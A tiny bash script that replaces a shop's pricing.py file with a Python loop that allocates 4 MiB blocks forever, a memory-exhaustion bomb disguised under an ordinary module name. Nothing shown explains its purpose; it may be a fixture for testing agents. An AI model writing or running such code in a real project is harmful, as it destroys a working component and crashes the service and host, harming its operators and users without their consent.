#!/bin/bash
cat > shop/pricing.py <<'END'
held = []
while True:
    held.append(bytearray(2**22))
END
